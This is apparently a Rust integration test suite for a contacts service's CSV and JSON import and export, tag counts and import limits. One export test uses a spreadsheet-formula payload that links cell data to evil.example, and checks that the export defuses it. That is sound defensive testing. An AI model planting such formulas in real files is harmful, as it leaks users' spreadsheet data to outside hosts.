use crate::helpers::{PASSWORD, Process, TestApp, cli, error_message, eventually, spawn_app};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::time::Duration;
use switchboard::accounts::Plan;

async fn import(
    app: &TestApp,
    key: &str,
    path: &str,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> reqwest::Response {
    app.client
        .post(app.url(path))
        .header("x-api-key", key)
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap()
}

async fn import_ok(
    app: &TestApp,
    key: &str,
    path: &str,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> Value {
    let res = import(app, key, path, content_type, body).await;
    let status = res.status();
    let text = res.text().await.unwrap();
    assert_eq!(status, StatusCode::OK, "{text}");
    serde_json::from_str(&text).unwrap()
}

async fn everyone(app: &TestApp, key: &str, path: &str) -> Vec<Value> {
    let list = app.ok("GET", &format!("{path}?limit=500"), key, None).await;
    list.as_array().unwrap().clone()
}

#[tokio::test]
async fn csv_with_quotes_newlines_bom_and_crlf_imports() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let csv = "\u{feff}Name,Phone Number,Email,Tags,Notes,Orders\r\n\
               \"Rao, Asha\",+919876543210,asha@example.com,vip;newsletter,\"line one\r\nline two\",7\r\n\
               \"Bob \"\"The Builder\"\"\",+14155550100,,,,3\r\n";
    let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv).await;
    assert_eq!(
        outcome,
        json!({"created": 2, "updated": 0, "failed": [], "failedCount": 0})
    );
    let people = everyone(&app, &key, "/v1/contacts").await;
    assert_eq!(people[0]["name"], "Rao, Asha");
    assert_eq!(people[0]["tags"], json!(["newsletter", "vip"]));
    assert_eq!(
        people[0]["attributes"],
        json!({"Notes": "line one\r\nline two", "Orders": 7})
    );
    assert_eq!(people[1]["name"], "Bob \"The Builder\"");
    assert_eq!(people[1]["attributes"], json!({"Orders": 3}));
}

#[tokio::test]
async fn a_reimport_updates_instead_of_duplicating() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let first = "externalId,name,phone,tags,contactStage\nx1,Asha,+919876543210,vip,Lead\n,Bob,+14155550100,,Lead\n";
    let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", first).await;
    assert_eq!(
        (outcome["created"].clone(), outcome["updated"].clone()),
        (json!(2), json!(0))
    );

    // x1 is found by externalId (its phone changes); Bob is found by phone.
    let second = "externalId,name,phone,tags,contactStage\nx1,Asha Rao,+919999999999,new,\n,,+1 415 555 0100,,Customer\n";
    let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", second).await;
    assert_eq!(
        outcome,
        json!({"created": 0, "updated": 2, "failed": [], "failedCount": 0})
    );
    let people = everyone(&app, &key, "/v1/contacts").await;
    assert_eq!(people.len(), 2);
    assert_eq!(people[0]["name"], "Asha Rao");
    assert_eq!(people[0]["phoneNumber"], "+919999999999");
    assert_eq!(
        people[0]["contactStage"], "Lead",
        "an empty cell changes nothing"
    );
    assert_eq!(people[0]["tags"], json!(["new", "vip"]), "tags are added");
    assert_eq!(people[1]["name"], "Bob");
    assert_eq!(people[1]["contactStage"], "Customer");
}

/// Rows of one file that name the same person apply in file order, as if each were
/// imported alone, whether they share a phone or an externalId, near each other or not.
#[tokio::test]
async fn rows_of_one_file_naming_one_person_apply_in_order() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let mut csv = String::from("externalId,name,phone,tags\n");
    csv.push_str(",First,+14155550101,a\n"); // creates A
    csv.push_str("x9,Second,+14155550101,b\n"); // A, found by phone, takes x9
    csv.push_str("x9,Third,+14155550102,c\n"); // A, found by x9, takes a new phone
    for i in 0..200 {
        csv.push_str(&format!(",Filler {i},+1415666{i:04},\n"));
    }
    csv.push_str(",Fourth,+14155550102,d\n"); // A again, by its new phone, far below
    csv.push_str("x9,Fifth,,e\n"); // and by x9 once more
    let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv).await;
    assert_eq!(
        outcome,
        json!({"created": 201, "updated": 4, "failed": [], "failedCount": 0})
    );
    let people = everyone(&app, &key, "/v1/contacts").await;
    assert_eq!(people.len(), 201);
    let a = &people[0];
    assert_eq!(
        (&a["name"], &a["externalId"], &a["phoneNumber"]),
        (&json!("Fifth"), &json!("x9"), &json!("+14155550102"))
    );
    assert_eq!(a["tags"], json!(["a", "b", "c", "d", "e"]));
    assert_eq!(people[1]["name"], "Filler 0");
}

#[tokio::test]
async fn ten_thousand_rows_with_some_bad_ones() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let mut csv = String::from("externalId,name,phoneNumber,email,tags,city,orders\n");
    let mut bad = Vec::new();
    for i in 0..10_000 {
        let line = i + 2;
        let (phone, email) = match i % 1000 {
            13 => {
                bad.push((line, "phoneNumber:"));
                ("12".to_string(), format!("p{i}@example.com"))
            }
            14 => {
                bad.push((line, "email:"));
                (format!("+1415{:07}", i), "not-an-email".to_string())
            }
            _ => (format!("+1415{:07}", i), format!("p{i}@example.com")),
        };
        csv.push_str(&format!(
            "ext-{i},Person {i},{phone},{email},t{};all,City{},{}\n",
            i % 3,
            i % 10,
            i % 50
        ));
    }
    // Found by its externalId, ext-5 may not take ext-6's phone: a conflict, reported.
    csv.push_str("ext-5,Changed,+14150000006,,,,\n");
    bad.push((10_002, "phoneNumber: contact"));
    let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv).await;
    assert_eq!(outcome["created"], 10_000 - 20);
    assert_eq!(outcome["updated"], 0);
    let failed = outcome["failed"].as_array().unwrap();
    assert_eq!(failed.len(), bad.len(), "{failed:?}");
    for (failure, (line, reason)) in failed.iter().zip(&bad) {
        assert_eq!(failure["row"], *line);
        assert!(
            failure["message"].as_str().unwrap().starts_with(reason),
            "{failure}"
        );
    }
    let res = app.call("GET", "/v1/contacts?tag=all", &key, None).await;
    assert_eq!(res.headers()["x-total-count"], "9980");
    let res = app
        .call("GET", "/v1/contacts?searchText=Person%209999", &key, None)
        .await;
    let found: Value = res.json().await.unwrap();
    assert_eq!(
        found[0]["attributes"],
        json!({"city": "City9", "orders": 49})
    );
}

#[tokio::test]
async fn json_arrays_import_with_per_element_failures() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let body = json!([
        {"name": "A", "phoneNumber": "+14155550100", "attributes": {"vip": true}},
        {"name": 42},
        {"externalId": "e1", "tags": ["x"]},
        {"email": "nope"}
    ]);
    let outcome = import_ok(
        &app,
        &key,
        "/v1/clients/import",
        "application/json",
        body.to_string(),
    )
    .await;
    assert_eq!(outcome["created"], 2);
    let rows: Vec<i64> = outcome["failed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["row"].as_i64().unwrap())
        .collect();
    assert_eq!(rows, vec![2, 4]);
    assert_eq!(
        everyone(&app, &key, "/v1/clients").await.len(),
        2,
        "imported as clients"
    );
    assert!(everyone(&app, &key, "/v1/contacts").await.is_empty());
}

#[tokio::test]
async fn bad_imports_are_refused_whole() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let res = import(&app, &key, "/v1/contacts/import", "text/plain", "name\nA\n").await;
    error_message(res, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    let res = import(&app, &key, "/v1/contacts/import", "text/csv", "").await;
    let message = error_message(res, StatusCode::BAD_REQUEST).await;
    assert!(message.contains("no header"), "{message}");
    let res = import(
        &app,
        &key,
        "/v1/contacts/import",
        "application/json",
        "{\"name\": 1}",
    )
    .await;
    error_message(res, StatusCode::BAD_REQUEST).await;
    let big = vec![b'a'; switchboard::http::api::contacts::IMPORT_LIMIT + 1];
    let res = import(&app, &key, "/v1/contacts/import", "text/csv", big).await;
    error_message(res, StatusCode::PAYLOAD_TOO_LARGE).await;
    assert!(everyone(&app, &key, "/v1/contacts").await.is_empty());
    // Uploads wait in unnamed files beside the database: none is left behind.
    let left: Vec<_> = std::fs::read_dir(app.db_path.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| !name.starts_with("switchboard.db"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[tokio::test]
async fn an_export_reimports_to_the_same_data() {
    let app = spawn_app().await;
    let a = app.create_account("a@example.com", Plan::Unlimited).key;
    let b = app.create_account("b@example.com", Plan::Unlimited).key;
    let people = [
        json!({"name": "Asha, \"A\" Rao", "firstName": "Asha", "lastName": "Rao", "phoneNumber": "+919876543210",
               "email": "asha@example.com", "externalId": "crm-1", "gender": "Female", "birthDate": "1990-04-02",
               "contactStage": "Subscriber", "channel": "telegram", "channelIds": {"telegram": "551234", "messenger": "77"},
               "tags": ["vip", "news letter"], "optedOut": true,
               "attributes": {"country": "India", "orders": 7, "member": true, "zip": "01234", "note": "multi\nline"}}),
        json!({"name": "Bob", "email": "bob@example.com", "attributes": {"orders": 2, "ratio": 0.25}}),
    ];
    for p in &people {
        app.ok("POST", "/v1/contacts", &a, Some(p.clone())).await;
    }
    for i in 0..2500 {
        app.ok(
            "POST",
            "/v1/contacts",
            &a,
            Some(json!({"externalId": format!("bulk-{i}")})),
        )
        .await;
    }
    let res = app
        .client
        .get(app.url("/v1/contacts/export"))
        .header("x-api-key", &a)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let csv = res.text().await.unwrap();
    assert_eq!(
        csv.lines().filter(|l| l.contains("bulk-")).count(),
        2500,
        "more than one page streamed"
    );

    let outcome = import_ok(&app, &b, "/v1/contacts/import", "text/csv", csv.clone()).await;
    assert_eq!(
        outcome,
        json!({"created": 2502, "updated": 0, "failed": [], "failedCount": 0})
    );
    let strip = |mut v: Vec<Value>| {
        for p in &mut v {
            let p = p.as_object_mut().unwrap();
            for server_field in ["id", "createdAt", "updatedAt"] {
                p.remove(server_field);
            }
        }
        v
    };
    let original = strip(everyone(&app, &a, "/v1/contacts").await);
    let copy = strip(everyone(&app, &b, "/v1/contacts").await);
    assert_eq!(original, copy);

    // B's export holds only B's people; a segment filter has nothing to name yet.
    let res = app
        .client
        .get(app.url("/v1/contacts/export?segmentId=1"))
        .header("x-api-key", &b)
        .send()
        .await
        .unwrap();
    error_message(res, StatusCode::NOT_FOUND).await;
    let res = app
        .client
        .get(app.url("/v1/clients/export"))
        .header("x-api-key", &b)
        .send()
        .await
        .unwrap();
    assert_eq!(
        res.text().await.unwrap().lines().count(),
        1,
        "only the header: B has no clients"
    );
}

#[tokio::test]
async fn a_segment_exports_only_its_members() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    for (name, tags) in [
        ("Asha", json!(["vip"])),
        ("Bob", json!([])),
        ("Chen", json!(["vip"])),
    ] {
        app.ok(
            "POST",
            "/v1/contacts",
            &key,
            Some(json!({"name": name, "tags": tags})),
        )
        .await;
    }
    let segment = app
        .ok(
            "POST",
            "/v1/segments",
            &key,
            Some(json!({"name": "VIPs", "criteria": {"tags": ["vip"]}})),
        )
        .await;
    let id = segment["id"].as_str().unwrap();
    let res = app
        .client
        .get(app.url(&format!("/v1/contacts/export?segmentId={id}")))
        .header("x-api-key", &key)
        .send()
        .await
        .unwrap();
    let csv = res.text().await.unwrap();
    let names: Vec<&str> = csv
        .lines()
        .skip(1)
        .map(|l| l.split(',').nth(2).unwrap())
        .collect();
    assert_eq!(names, vec!["Asha", "Chen"]);
    // A contact segment is not a client segment.
    let res = app
        .client
        .get(app.url(&format!("/v1/clients/export?segmentId={id}")))
        .header("x-api-key", &key)
        .send()
        .await
        .unwrap();
    error_message(res, StatusCode::NOT_FOUND).await;
    let other = app.create_account("b@example.com", Plan::Unlimited).key;
    let res = app
        .client
        .get(app.url(&format!("/v1/contacts/export?segmentId={id}")))
        .header("x-api-key", &other)
        .send()
        .await
        .unwrap();
    error_message(res, StatusCode::NOT_FOUND).await;
}

/// Reads keep each account's attribute names in memory; names added later, by the writer
/// or by another process on the same file, must show on the next read.
#[tokio::test]
async fn attributes_named_after_a_read_show_on_the_next_read() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let first = app
        .ok(
            "POST",
            "/v1/contacts",
            &key,
            Some(json!({"name": "A", "attributes": {"plan": "pro"}})),
        )
        .await;
    let path = format!("/v1/contacts/{}", first["id"].as_str().unwrap());
    assert_eq!(
        app.ok("GET", &path, &key, None).await["attributes"],
        json!({"plan": "pro"})
    );

    import_ok(
        &app,
        &key,
        "/v1/contacts/import",
        "text/csv",
        "name,city\nB,Pune\n",
    )
    .await;
    let people = everyone(&app, &key, "/v1/contacts").await;
    assert_eq!(people[1]["attributes"], json!({"city": "Pune"}));
    assert_eq!(
        app.ok("GET", &path, &key, None).await["attributes"],
        json!({"plan": "pro"})
    );

    // Another process adds people with four more attribute names while the server runs.
    let db = app.db_path.clone();
    let out = crate::helpers::cli(
        &db,
        &["demo", "--contacts", "3", "--email", "a@example.com"],
        "",
    )
    .await;
    assert!(out.contains("Added 3 demo people"), "{out}");
    let people = everyone(&app, &key, "/v1/contacts").await;
    assert_eq!(people.len(), 5);
    let last = format!("/v1/contacts/{}", people[4]["id"].as_str().unwrap());
    let attributes = app.ok("GET", &last, &key, None).await["attributes"].clone();
    for name in ["city", "member", "orders", "plan"] {
        assert!(
            attributes.get(name).is_some(),
            "{name} missing from {attributes}"
        );
    }
}

/// Each person's tags are read from a copy in its row, and each tag's people from counts in
/// the tag's row; every writer of tag links keeps both equal to the links, which the
/// `?tag=` filter reads.
#[tokio::test]
async fn every_writer_of_tags_keeps_the_copies_and_counts_equal_to_the_links() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let call = |method: &'static str, path: String, body: Value| {
        let (app, key) = (&app, &key);
        async move { app.ok(method, &path, key, Some(body)).await }
    };
    let a = call(
        "POST",
        "/v1/contacts".into(),
        json!({"name": "A", "tags": ["vip", "Beta"]}),
    )
    .await;
    let a = a["id"].as_str().unwrap().to_string();
    call(
        "PUT",
        format!("/v1/contacts/{a}"),
        json!({"tags": ["x", "zeta"]}),
    )
    .await;
    call(
        "POST",
        format!("/v1/contacts/{a}/tags"),
        json!({"tags": ["VIP"]}),
    )
    .await;
    call(
        "DELETE",
        format!("/v1/contacts/{a}/tags"),
        json!({"tags": ["x"]}),
    )
    .await;
    // New rows, a row updating B by phone, a phone repeated within the file, and an
    // existing tag in another spelling.
    call(
        "POST",
        "/v1/contacts".into(),
        json!({"name": "B", "phoneNumber": "+14155550100"}),
    )
    .await;
    let mut csv = String::from("name,phone,tags\n");
    for i in 0..150 {
        csv.push_str(&format!("P{i},+1415777{i:04},NEWS;beta\n"));
    }
    csv.push_str("B,+14155550100,vip;news\n");
    csv.push_str("P7,+14157770007,late\n");
    import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv).await;
    let json = json!([
        {"name": "C", "phoneNumber": "+14155550199", "email": null, "tags": ["vip"]},
        {"name": "P8", "phoneNumber": "+14157770008", "tags": ["Zeta"]}
    ]);
    let body = json.to_string();
    import_ok(&app, &key, "/v1/contacts/import", "application/json", body).await;
    // Tags a person has already are not counted twice; clients count apart; a deleted
    // person takes its links out of the counts.
    let again = "phone,tags\n+14157770001,beta;news\n";
    import_ok(&app, &key, "/v1/contacts/import", "text/csv", again).await;
    let client = "phone,tags\n+14157770001,vip\n";
    import_ok(&app, &key, "/v1/clients/import", "text/csv", client).await;
    let gone = call(
        "POST",
        "/v1/contacts".into(),
        json!({"name": "Gone", "tags": ["vip", "late"]}),
    )
    .await;
    app.ok(
        "DELETE",
        &format!("/v1/contacts/{}", gone["id"].as_str().unwrap()),
        &key,
        None,
    )
    .await;

    let people = everyone(&app, &key, "/v1/contacts").await;
    let mut linked: std::collections::BTreeMap<String, Vec<String>> = Default::default();
    let tags = app.ok("GET", "/v1/tags", &key, None).await;
    for tag in tags.as_array().unwrap() {
        let name = tag["name"].as_str().unwrap();
        let path = format!("/v1/contacts?tag={name}&limit=500");
        let contacts = app.ok("GET", &path, &key, None).await;
        for person in contacts.as_array().unwrap() {
            let id = person["id"].as_str().unwrap().to_string();
            linked.entry(id).or_default().push(name.to_string());
        }
        let path = format!("/v1/clients?tag={name}&limit=500");
        let clients = app.ok("GET", &path, &key, None).await;
        let (contacts, clients) = (
            contacts.as_array().unwrap().len(),
            clients.as_array().unwrap().len(),
        );
        assert_eq!(tag["count"], contacts + clients, "{tag}");
        let has = json!({"attribute": "tags", "operator": "has", "value": name});
        let rule = json!({"name": format!("tagged {name}"), "groups": [{"conditions": [has]}]});
        let segment = call("POST", "/v1/segments".into(), rule).await;
        let path = format!("/v1/segments/{}/count", segment["id"].as_str().unwrap());
        assert_eq!(
            app.ok("GET", &path, &key, None).await["count"],
            contacts,
            "{tag}"
        );
    }
    for person in &people {
        let id = person["id"].as_str().unwrap();
        let mut copied: Vec<String> = serde_json::from_value(person["tags"].clone()).unwrap();
        copied.sort();
        let mut links = linked.get(id).cloned().unwrap_or_default();
        links.sort();
        assert_eq!(copied, links, "{person}");
    }
    let tags_of = |name: &str| {
        let p = people.iter().find(|p| p["name"] == name).unwrap();
        p["tags"].clone()
    };
    assert_eq!(tags_of("A"), json!(["vip", "zeta"]));
    assert_eq!(
        tags_of("B"),
        json!(["NEWS", "vip"]),
        "the first spelling stays"
    );
    assert_eq!(tags_of("P1"), json!(["Beta", "NEWS"]));
    assert_eq!(tags_of("P7"), json!(["Beta", "late", "NEWS"]));
    assert_eq!(tags_of("P8"), json!(["Beta", "NEWS", "zeta"]));
    assert_eq!(tags_of("C"), json!(["vip"]));
    let count_of = |name: &str| {
        let tag = tags
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["name"] == name)
            .unwrap();
        tag["count"].clone()
    };
    assert_eq!(count_of("vip"), 4, "A, B, C and the client");
    assert_eq!(count_of("late"), 1, "P7; Gone is deleted");
}

/// The most memory the process `pid` held, from `/proc` (VmHWM), in bytes.
fn peak_rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    let kib: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    kib * 1024
}

#[tokio::test]
async fn a_64_mib_file_of_bad_rows_gets_a_small_answer_in_bounded_memory() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("sb.db");
    let email = ["--email", "bulk@example.com"];
    cli(
        &db,
        &[&["account", "create", "--plan", "unlimited"][..], &email].concat(),
        &format!("{PASSWORD}\n"),
    )
    .await;
    let key = cli(&db, &[&["key", "create"][..], &email].concat(), "").await;
    let key = key.lines().last().unwrap().trim().to_string();
    let server = Process::serve(&db, &[], "warn").await;

    // Every row's name is too long: each one fails, with its own message.
    let row = format!("{},+14155550100\n", "n".repeat(400));
    let limit = switchboard::http::api::contacts::IMPORT_LIMIT;
    let header = "name,phoneNumber\n";
    let rows = (limit - header.len()) / row.len();
    let mut csv = String::with_capacity(limit);
    csv.push_str(header);
    for _ in 0..rows {
        csv.push_str(&row);
    }
    let res = reqwest::Client::new()
        .post(format!("{}/v1/contacts/import", server.base))
        .header("x-api-key", &key)
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let answer = res.bytes().await.unwrap();
    assert!(
        answer.len() < 1024 * 1024,
        "an answer of {} bytes",
        answer.len()
    );
    let outcome: Value = serde_json::from_slice(&answer).unwrap();
    assert_eq!(outcome["failedCount"], rows as u64);
    let failed = outcome["failed"].as_array().unwrap();
    assert_eq!(failed.len(), 1_000, "the first thousand are listed");
    assert_eq!(
        (failed[0]["row"].as_u64(), failed[999]["row"].as_u64()),
        (Some(2), Some(1001))
    );
    let peak = peak_rss(server.child.id().unwrap());
    assert!(
        peak < 200 * 1024 * 1024,
        "the server peaked at {} MB",
        peak / (1024 * 1024)
    );
}

#[tokio::test]
async fn an_account_runs_one_import_at_a_time() {
    use std::io::Write;
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    app.ok("GET", "/v1/account", &key, None).await; // the server is serving
    // An import whose body is still coming holds the account's place.
    let addr = app.base.trim_start_matches("http://").to_string();
    let mut slow = std::net::TcpStream::connect(&addr).unwrap();
    write!(
        slow,
        "POST /v1/contacts/import HTTP/1.1\r\nhost: {addr}\r\nx-api-key: {key}\r\n\
         content-type: text/csv\r\ncontent-length: 100000\r\n\r\nname\r\n"
    )
    .unwrap();
    slow.flush().unwrap();
    // Its head reaches the handler before any other import is sent.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let busy = eventually(
        Duration::from_secs(5),
        "the first import holds the place",
        || async {
            let res = import(
                &app,
                &key,
                "/v1/contacts/import",
                "text/csv",
                "name\nAsha\n",
            )
            .await;
            (res.status() == StatusCode::TOO_MANY_REQUESTS).then_some(res)
        },
    )
    .await;
    assert!(busy.headers().contains_key("retry-after"));
    let other = app.create_account("b@example.com", Plan::Unlimited).key;
    import_ok(
        &app,
        &other,
        "/v1/contacts/import",
        "text/csv",
        "name\nBo\n",
    )
    .await;
    drop(slow);
    eventually(
        Duration::from_secs(5),
        "the place is given back",
        || async {
            let res = import(
                &app,
                &key,
                "/v1/contacts/import",
                "text/csv",
                "name\nAsha\n",
            )
            .await;
            (res.status() == StatusCode::OK).then_some(())
        },
    )
    .await;
}

#[tokio::test]
async fn an_export_defuses_formulas_and_reads_them_back() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    app.ok(
        "POST",
        "/v1/contacts",
        &key,
        Some(json!({"name": name, "phoneNumber": "+14155550100", "attributes": {"balance": -5, "note": "@SUM(1)"}})),
    )
    .await;
    let csv = app
        .client
        .get(app.url("/v1/contacts/export"))
        .header("x-api-key", &key)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains("\"'=HYPERLINK("), "{row}");
    assert!(
        row.contains(",'+14155550100,") && row.contains(",'-5,") && row.contains(",'@SUM(1)"),
        "{row}"
    );
    for cell in row.split(',') {
        assert!(
            !cell.trim_matches('"').starts_with(['=', '+', '-', '@']),
            "{cell} in {row}"
        );
    }

    let other = app.create_account("b@example.com", Plan::Unlimited).key;
    import_ok(&app, &other, "/v1/contacts/import", "text/csv", csv).await;
    let back = app.ok("GET", "/v1/contacts", &other, None).await;
    assert_eq!(back[0]["name"], name);
    assert_eq!(back[0]["phoneNumber"], "+14155550100");
    assert_eq!(
        back[0]["attributes"],
        json!({"balance": -5, "note": "@SUM(1)"})
    );
}

/// The counts kept per birth date, per stage and gender and per tag equal a recount of the
/// rows, after imports of several batches (rows naming a person twice among them), a JSON
/// import that clears birth dates, clients, single creates, updates and deletes.
#[tokio::test]
async fn derived_counts_equal_a_recount_after_imports_and_changes() {
    let app = spawn_app().await;
    let key = app.create_account("a@example.com", Plan::Unlimited).key;
    let stages = ["Lead", "lead", "Customer", "", "Churned"];
    let genders = ["Male", "Female", "Other", ""];
    let tags = ["vip", "VIP", "newsletter", ""];
    let mut csv = String::from("name,phoneNumber,gender,birthDate,contactStage,tags\n");
    for i in 0..12_000 {
        // Every seventh row names a person of an earlier batch again, with other values.
        let phone = if i % 7 == 6 { i / 2 } else { i };
        let birth = match i % 5 {
            0 => String::new(),
            k => format!("19{:02}-0{k}-1{}", 50 + i % 40, i % 9),
        };
        csv.push_str(&format!(
            "P{i},+1415{:07},{},{birth},{},{}\n",
            2_000_000 + phone,
            genders[i % 4],
            stages[i % 5],
            tags[i % 4]
        ));
    }
    import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv.clone()).await;
    import_ok(&app, &key, "/v1/clients/import", "text/csv", csv).await;
    let cleared: Vec<Value> = (0..300)
        .map(|i| json!({"phoneNumber": format!("+1415{:07}", 2_000_000 + i * 3), "birthDate": null, "contactStage": "Lead"}))
        .collect();
    import_ok(
        &app,
        &key,
        "/v1/contacts/import",
        "application/json",
        json!(cleared).to_string(),
    )
    .await;
    let made = app
        .ok("POST", "/v1/contacts", &key, Some(json!({"name": "One", "birthDate": "1990-01-02", "gender": "Female", "contactStage": "Lead"})))
        .await;
    let id = made["id"].as_str().unwrap();
    app.ok(
        "PUT",
        &format!("/v1/contacts/{id}"),
        &key,
        Some(json!({"birthDate": "1991-03-04", "contactStage": "Customer"})),
    )
    .await;
    let first = everyone(&app, &key, "/v1/contacts").await;
    for person in first.iter().take(20) {
        let id = person["id"].as_str().unwrap();
        app.client
            .delete(app.url(&format!("/v1/contacts/{id}")))
            .header("x-api-key", &key)
            .send()
            .await
            .unwrap();
    }

    let conn = switchboard::db::open_single(&app.db_path).unwrap();
    let rows = |sql: &str| -> Vec<String> {
        let mut stmt = conn.prepare(sql).unwrap();
        stmt.query_map([], |r| r.get::<_, String>(0))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    let kept = rows(
        "SELECT concat_ws(' ', type, birth_date, n) FROM birth_date_counts WHERE n <> 0 ORDER BY type, birth_date",
    );
    assert!(kept.len() > 100, "{} birth dates", kept.len());
    assert_eq!(
        kept,
        rows(
            "SELECT concat_ws(' ', type, birth_date, count(*)) FROM contacts
              WHERE birth_date IS NOT NULL GROUP BY type, birth_date ORDER BY type, birth_date"
        )
    );
    assert_eq!(
        rows("SELECT concat_ws(' ', type, lower(contact_stage), gender, n) FROM stage_gender_counts
              WHERE n <> 0 ORDER BY type, lower(contact_stage), gender"),
        rows("SELECT concat_ws(' ', type, lower(coalesce(contact_stage, '')), coalesce(gender, ''), count(*))
              FROM contacts WHERE contact_stage IS NOT NULL OR gender IS NOT NULL
              GROUP BY type, lower(coalesce(contact_stage, '')), coalesce(gender, '')
              ORDER BY type, lower(coalesce(contact_stage, '')), coalesce(gender, '')")
    );
    assert_eq!(
        rows("SELECT concat_ws(' ', name, contact_count, client_count) FROM tags ORDER BY id"),
        rows(
            "SELECT concat_ws(' ', t.name, sum(ct.type = 0), sum(ct.type = 1)) FROM tags t
              JOIN contact_tags ct ON ct.tag_id = t.id GROUP BY t.id ORDER BY t.id"
        )
    );
}
